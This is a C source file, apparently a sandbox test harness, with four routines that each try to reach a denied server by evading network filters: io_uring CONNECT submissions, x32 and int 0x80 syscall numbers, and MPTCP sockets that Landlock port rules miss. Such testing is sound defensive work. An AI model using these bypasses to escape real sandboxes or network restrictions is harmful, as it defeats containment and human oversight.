#include "attack.h"

#include <linux/io_uring.h>

// Each prints "reached" if a connection to the denied server was made, else what failed.
static void outcome(const char *name, long result) {
	if (result < 0) errno = -result;
	printf("%s: %s\n", name, result < 0 ? strerrorname_np(errno) : "reached");
}

static long negative(long result) { return result < 0 ? -errno : result; }

// A ring makes system calls that no filter sees.
void io_uring(void) {
	struct io_uring_params p = {0};
	long ring = negative(syscall(SYS_io_uring_setup, 2, &p));
	if (ring < 0) {
		outcome("io_uring", ring);
		return;
	}
	char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *entry = mmap(NULL, p.sq_entries * sizeof *entry, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || (void *)entry == MAP_FAILED) err(1, "mmap of the ring");
	*entry = (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = tcp(0), .addr = (uintptr_t)&denied, .off = sizeof denied};
	((unsigned *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	long entered = negative(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
	if (entered < 0) {
		outcome("io_uring", entered);
		return;
	}
	outcome("io_uring", ((struct io_uring_cqe *)(cq + p.cq_off.cqes))->res);
}

// The same call by the number of another ABI.
void x32(void) {
#ifdef __x86_64__
	enum { X32 = 0x40000000 };
	outcome("x32", negative(syscall(X32 | SYS_connect, tcp(0), &denied, sizeof denied)));
#else
	outcome("x32", -ENOSYS);
#endif
}

// And by the door of 32-bit programs, where numbers mean other calls.
void int80(void) {
#ifdef __x86_64__
	enum { CONNECT = 362 }; // of <asm/unistd_32.h>
	struct sockaddr_in *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED) err(1, "mmap");
	*low = denied;
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(CONNECT), "b"((long)tcp(0)), "c"(low), "d"((long)sizeof *low) : "memory", "r8", "r9", "r10", "r11");
	outcome("int80", result);
#else
	outcome("int80", -ENOSYS);
#endif
}

// TCP that Landlock's rules for TCP ports do not see.
void mptcp(void) {
	int fd = socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
	outcome("mptcp", negative(fd < 0 ? fd : connect(fd, (struct sockaddr *)&denied, sizeof denied)));
}
